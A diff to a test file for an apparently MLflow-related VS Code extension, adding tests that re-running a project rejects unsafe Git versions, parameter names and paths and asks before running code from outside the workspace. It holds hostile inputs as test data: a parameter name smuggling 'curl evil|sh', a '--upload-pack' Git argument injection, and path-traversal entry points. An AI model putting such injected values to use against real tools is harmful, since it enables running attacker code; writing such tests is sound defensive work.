@@ -5,6 +5,7 @@ import * as vscode from 'vscode';
 import type { Log } from '../../src/base/log';
 import { commands } from '../../src/ids';
 import type { LaunchingHost } from '../../src/launching/launchingHost';
+import { confirmAgain } from '../../src/launching/confirmAgain';
 import { ProjectRuns, type WantedRun } from '../../src/launching/projectRuns';
 import { wantedAgain } from '../../src/launching/runAgain';
 import type { Run } from '../../src/mlflow/model';
@@ -183,13 +184,78 @@ describe('launching projects', function () {
 
     it('takes a Git project at its commit, without a sign-in that somebody put into its address', async () => {
       const tags = ofProject('https://me:s3cret@example.org/p.git#sub', {
-        'mlflow.source.git.commit': 'c0ffee',
+        'mlflow.source.git.commit': 'c0ffee5',
       });
       const { command } = await wantedAgain(runOf(tags), stage.server.url);
       assert.deepEqual(command.program, {
         ...{ kind: 'project', uri: 'https://example.org/p.git#sub' },
-        ...{ version: 'c0ffee', entryPoint: 'main' },
+        ...{ version: 'c0ffee5', entryPoint: 'main' },
       });
+    });
+
+    it('takes no version, and no names of parameters, that a shell or Git may take for something else', async () => {
+      const tags = ofProject('https://example.org/p.git', {
+        'mlflow.source.git.commit': '--upload-pack=x',
+      });
+      const params = { 'x;curl evil|sh;': '1', '--y': '1', 'a.b-c': '2' };
+      const { command } = await wantedAgain(runOf(tags, params), stage.server.url);
+      assert.equal(command.program.kind === 'project' && command.program.version, undefined);
+      assert.deepEqual(command.parameters, [['a.b-c', '2']]);
+    });
+
+    it('refuses places that a server may not name: none, relative ones, shares, and what lies outside of a project', async () => {
+      const said = (run: Run): Promise<string> =>
+        wantedAgain(run, stage.server.url).then(
+          () => 'nothing',
+          (error: unknown) => String(error),
+        );
+      for (const source of ['', '.', 'src', '//host/share', '/#/../../host', 'file:////host/p']) {
+        assert.match(await said(runOf(ofProject(source))), /is not on this machine/, source);
+      }
+      assert.match(
+        await said(runOf({ 'mlflow.project.entryPoint': 'main' })),
+        /\?, is not on this machine/,
+      );
+      for (const entryPoint of ['../../x.sh', '/tmp/x.py', 'a/../../b.sh', 'C:\\x.py']) {
+        const tags = ofProject(stage.project, { 'mlflow.project.entryPoint': entryPoint });
+        assert.match(await said(runOf(tags)), /entry point outside of its project/, entryPoint);
+      }
+    });
+
+    it('asks before it runs what is not in the workspace, or many at once', async () => {
+      const git = await wantedAgain(
+        runOf(ofProject('https://example.org/p.git'), { alpha: '1' }),
+        stage.server.url,
+      );
+      assert.equal(await confirmAgain([git]), false);
+      const [said] = stage.person.said;
+      assert.match(said?.text ?? '', /not in this workspace/);
+      const { modal, detail } = said?.actions[0] as unknown as vscode.MessageOptions;
+      assert.equal(modal, true);
+      for (const part of ['https://example.org/p.git', 'default branch', 'main', 'alpha=1']) {
+        assert.ok(detail?.includes(part), detail);
+      }
+      stage.person.press = () => 'Run Again';
+      assert.equal(await confirmAgain([git]), true);
+      assert.equal(await confirmAgain([git, git, git]), true);
+      assert.match(stage.person.last.text, /Run 3 runs again\?/);
+    });
+
+    it('asks nothing for one run of the workspace', async () => {
+      const [root] = vscode.workspace.workspaceFolders ?? [];
+      assert.ok(root);
+      const outside = await wantedAgain(runOf(ofProject(stage.project)), stage.server.url);
+      const { program } = outside.command;
+      assert.equal(await confirmAgain([outside]), false);
+      const inside = {
+        ...outside,
+        command: {
+          ...outside.command,
+          program: { ...program, uri: root.uri.fsPath } as typeof program,
+        },
+      };
+      assert.equal(await confirmAgain([inside]), true);
+      assert.equal(stage.person.said.length, 1);
     });
 
     it('refuses what did not come from a project, or from one that is gone or has changed', async () => {
